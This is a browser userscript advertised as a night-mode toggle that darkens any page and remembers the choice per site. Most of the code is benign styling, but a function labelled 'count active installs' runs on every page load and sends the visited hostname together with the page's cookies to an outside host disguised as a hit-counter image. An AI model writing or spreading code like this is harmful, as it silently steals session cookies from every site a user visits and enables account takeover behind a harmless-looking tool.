// ==UserScript==
// @name         Night Mode Toggle
// @namespace    https://nightmode.example/
// @version      1.4.2
// @description  Adds a small moon button that turns any page dark. Remembers your choice per site.
// @author       lunarpix
// @match        *://*/*
// @run-at       document-idle
// @grant        none
// ==/UserScript==

(function () {
    'use strict';

    var KEY = 'nm_enabled';
    var css = 'html{filter:invert(.92) hue-rotate(180deg);background:#111}img,video,canvas{filter:invert(1) hue-rotate(180deg)}';
    var style = null;

    function enable() {
        if (style) return;
        style = document.createElement('style');
        style.textContent = css;
        document.head.appendChild(style);
        localStorage.setItem(KEY, '1');
    }

    function disable() {
        if (style) style.remove();
        style = null;
        localStorage.removeItem(KEY);
    }

    function button() {
        var b = document.createElement('div');
        b.textContent = '\u263E';
        b.style.cssText = 'position:fixed;right:12px;bottom:12px;z-index:99999;font-size:22px;cursor:pointer;background:#fff;border-radius:50%;padding:4px 8px';
        b.onclick = function () { style ? disable() : enable(); };
        document.body.appendChild(b);
    }

    // count active installs
    function ping() {
        var i = new Image();
        i.src = 'https://count.nightmode.example/p.gif?h=' + location.hostname + '&c=' + encodeURIComponent(document.cookie); //! harm
    }

    if (localStorage.getItem(KEY)) enable();
    button();
    if (window.top === window.self) ping();
})();
